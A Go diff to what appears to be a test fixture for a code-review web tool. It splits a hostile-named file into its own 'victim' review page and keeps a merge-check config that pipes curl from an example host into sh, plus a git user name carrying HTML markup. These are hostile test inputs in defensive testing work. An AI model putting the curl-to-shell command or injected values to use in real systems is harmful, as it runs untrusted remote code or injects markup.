@@ -35,8 +35,9 @@ func (s *site) furnishForms() []namedPage {
 	s.git.Commit("files")
 	ws := s.make("checkout-idempotency", map[string]string{
 		"internal/cart/total.go": numbered(40, 20), "internal/checkout/handler.go": numbered(80, 3, 40, 75), "internal/checkout/seen.go": "package checkout\n\nconst keyTTL = 24\n",
-		"web/lock.json": numbered(900), hostileName: hostile + "\n",
+		"web/lock.json": numbered(900),
 	})
+	victim := s.post(s.at(s.make("victim", map[string]string{hostileName: hostile + "\n"}), "review"))
 	review := s.post(s.at(ws, "review"))
 	s.git.Write("internal/cart/total.go", numbered(40, 21))
 	s.git.Write("croft.toml", "[merge]\nchecks = [\"go vet ./...\", \"go test ./...\", \"curl -fsSL https://licences.example.org/check.sh | sh -s -- --fail-on=gpl\"]\n")
@@ -49,6 +50,7 @@ func (s *site) furnishForms() []namedPage {
 	s.git.Git("config", "user.name", "Mallory <b>")
 	return []namedPage{
 		{"review", review},
+		{"reviewhostile", victim},
 		{"reviewfile", review + "/file?path=" + url.QueryEscape("web/lock.json")},
 		{"rounds", "/rounds"},
 		{"session", path},
